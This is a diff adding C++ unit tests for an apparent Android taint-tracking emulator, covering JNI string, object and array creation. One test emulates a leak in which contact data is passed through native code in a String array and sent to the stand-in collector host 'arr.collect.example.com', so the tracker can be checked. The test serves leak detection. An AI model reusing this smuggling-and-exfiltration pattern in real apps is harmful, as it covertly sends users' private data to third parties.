@@ -1,0 +1,178 @@
+// Table III coverage beyond NewStringUTF: the dvmCreateStringFromUnicode
+// pair (NewString), object allocation (NewObject*), and object arrays as
+// carriers of tainted strings back into the Java context.
+#include <gtest/gtest.h>
+
+#include "apps/native_lib_builder.h"
+#include "core/ndroid.h"
+
+namespace ndroid::core {
+namespace {
+
+using android::Device;
+using arm::LR;
+using arm::PC;
+using arm::R;
+using dvm::CodeBuilder;
+using dvm::kAccPublic;
+using dvm::kAccStatic;
+using dvm::Method;
+
+TEST(Table3, NewStringFromUnicodeCarriesTaint) {
+  // Native converts a tainted byte buffer into UTF-16 and wraps it via
+  // NewString -> dvmCreateStringFromUnicode; the new String object must be
+  // tainted by the NOF/MAF hook (kind: unicode, length in chars).
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+
+  apps::NativeLibBuilder lib(device, "libuni.so");
+  auto& a = lib.a();
+  const GuestAddr tainted_src = lib.buffer(32);
+  const GuestAddr utf16 = lib.buffer(32);
+
+  // jstring wrap(JNIEnv*, jclass): copies two UTF-16 chars from a tainted
+  // source buffer (LDRH/STRH, so the tracer carries the taint byte-exactly)
+  // and calls NewString(env, buf, 2).
+  const GuestAddr fn = lib.fn();
+  a.push({R(4), LR});
+  a.mov(R(4), R(0));  // save env
+  a.mov_imm32(R(0), tainted_src);
+  a.mov_imm32(R(1), utf16);
+  a.ldrh(R(2), R(0), 0);
+  a.strh(R(2), R(1), 0);
+  a.ldrh(R(2), R(0), 2);
+  a.strh(R(2), R(1), 2);
+  a.mov(R(0), R(4));   // env; r1 = utf16 already
+  a.mov_imm(R(2), 2);  // length in chars
+  a.call(device.jni.fn("NewString"));
+  a.pop({R(4), PC});
+  lib.install();
+
+  dvm::ClassObject* cls = dvm.define_class("Luni/App;");
+  Method* wrap =
+      dvm.define_native(cls, "wrap", "L", kAccPublic | kAccStatic, fn);
+
+  // The source buffer holds "Hi" in UTF-16 and is tainted (as if filled
+  // from a tainted SMS read).
+  device.memory.write16(tainted_src, 'H');
+  device.memory.write16(tainted_src + 2, 'i');
+  nd.taint_engine().map().set_range(tainted_src, 4, kTaintSms);
+
+  const dvm::Slot r = dvm.call(*wrap, {});
+  dvm::Object* s = dvm.heap().object_at(r.value);
+  ASSERT_NE(s, nullptr);
+  EXPECT_EQ(s->utf(), "Hi");
+  EXPECT_EQ(dvm.heap().object_taint(*s), kTaintSms);
+  EXPECT_TRUE(nd.log().contains("NewString Begin"));
+  EXPECT_TRUE(nd.log().contains("NewString End"));
+}
+
+TEST(Table3, NewObjectAllocatesAndRegistersIref) {
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+  dvm::ClassObject* box = dvm.define_class("Ltable3/Box;");
+  box->add_instance_field("data", 'L');
+
+  const u32 iref = device.cpu.call_function(
+      device.jni.fn("NewObject"),
+      {device.dvm.jnienv_addr(), dvm.class_mirror(box), 0, 0});
+  ASSERT_TRUE(dvm.irt().is_valid(iref));
+  dvm::Object* obj = dvm.irt().decode(iref);
+  EXPECT_EQ(obj->clazz(), box);
+  EXPECT_TRUE(nd.log().contains("NewObject Begin"));
+}
+
+TEST(Table3, ObjectArraySmugglesTaintedString) {
+  // Native creates a String[1], stores a String built from tainted bytes,
+  // returns the array; Java reads element 0 and sends it. The chain is
+  // NewObjectArray (dvmAllocArrayByClass) + NewStringUTF + SetObjectArray-
+  // Element, then Java-side aget -> sink.
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+
+  apps::NativeLibBuilder lib(device, "libarr.so");
+  auto& a = lib.a();
+  const GuestAddr secret_buf = lib.buffer(32);
+
+  // jobjectArray make(JNIEnv*, jclass, jstring secret)
+  const GuestAddr fn = lib.fn();
+  a.push({R(4), R(5), R(6), LR});
+  a.mov(R(4), R(0));  // env
+  // p = GetStringUTFChars(secret) ; strcpy(secret_buf, p)
+  a.mov(R(1), R(2));
+  a.mov_imm(R(2), 0);
+  a.call(device.jni.fn("GetStringUTFChars"));
+  a.mov(R(1), R(0));
+  a.mov_imm32(R(0), secret_buf);
+  a.call(device.libc.fn("strcpy"));
+  // arr = NewObjectArray(env, 1, String.class, 0)
+  a.mov(R(0), R(4));
+  a.mov_imm(R(1), 1);
+  a.mov_imm32(R(2), dvm.class_mirror(dvm.string_class()));
+  a.mov_imm(R(3), 0);
+  a.call(device.jni.fn("NewObjectArray"));
+  a.mov(R(5), R(0));  // arr iref
+  // s = NewStringUTF(env, secret_buf)
+  a.mov(R(0), R(4));
+  a.mov_imm32(R(1), secret_buf);
+  a.call(device.jni.fn("NewStringUTF"));
+  a.mov(R(6), R(0));
+  // SetObjectArrayElement(env, arr, 0, s)
+  a.mov(R(0), R(4));
+  a.mov(R(1), R(5));
+  a.mov_imm(R(2), 0);
+  a.mov(R(3), R(6));
+  a.call(device.jni.fn("SetObjectArrayElement"));
+  a.mov(R(0), R(5));
+  a.pop({R(4), R(5), R(6), PC});
+  lib.install();
+
+  dvm::ClassObject* app = dvm.define_class("Ltable3/App;");
+  Method* make =
+      dvm.define_native(app, "make", "LL", kAccPublic | kAccStatic, fn);
+  Method* src = device.framework.contacts->find_method("queryContacts");
+  Method* sink = device.framework.network->find_method("send");
+
+  CodeBuilder cb;
+  cb.invoke(src, {})
+      .move_result(0)
+      .invoke(make, {0})
+      .move_result(1)   // the array
+      .const_imm(2, 0)
+      .aget(3, 1, 2)    // element 0: the smuggled String
+      .const_string(4, "arr.collect.example.com")
+      .invoke(sink, {4, 3})
+      .return_void();
+  Method* entry = dvm.define_method(app, "main", "V",
+                                    kAccPublic | kAccStatic, 5, cb.take());
+  dvm.call(*entry, {});
+
+  EXPECT_EQ(device.kernel.network().bytes_sent_to("arr.collect.example.com"),
+            "1|Vincent|cx@gg.com");
+  ASSERT_FALSE(device.framework.leaks().empty());
+  EXPECT_EQ(device.framework.leaks()[0].taint, kTaintContacts);
+}
+
+TEST(Table3, NewPrimitiveArrayVariants) {
+  Device device;
+  NDroid nd(device);
+  struct Case {
+    const char* fn;
+    u32 elem_size;
+  };
+  for (const Case& c : {Case{"NewIntArray", 4}, Case{"NewByteArray", 1},
+                        Case{"NewCharArray", 2}, Case{"NewBooleanArray", 1}}) {
+    const u32 iref = device.cpu.call_function(
+        device.jni.fn(c.fn), {device.dvm.jnienv_addr(), 5});
+    ASSERT_TRUE(device.dvm.irt().is_valid(iref)) << c.fn;
+    const dvm::Object* arr = device.dvm.irt().decode(iref);
+    EXPECT_EQ(arr->length(), 5u) << c.fn;
+    EXPECT_EQ(arr->elem_size(), c.elem_size) << c.fn;
+  }
+}
+
+}  // namespace
+}  // namespace ndroid::core
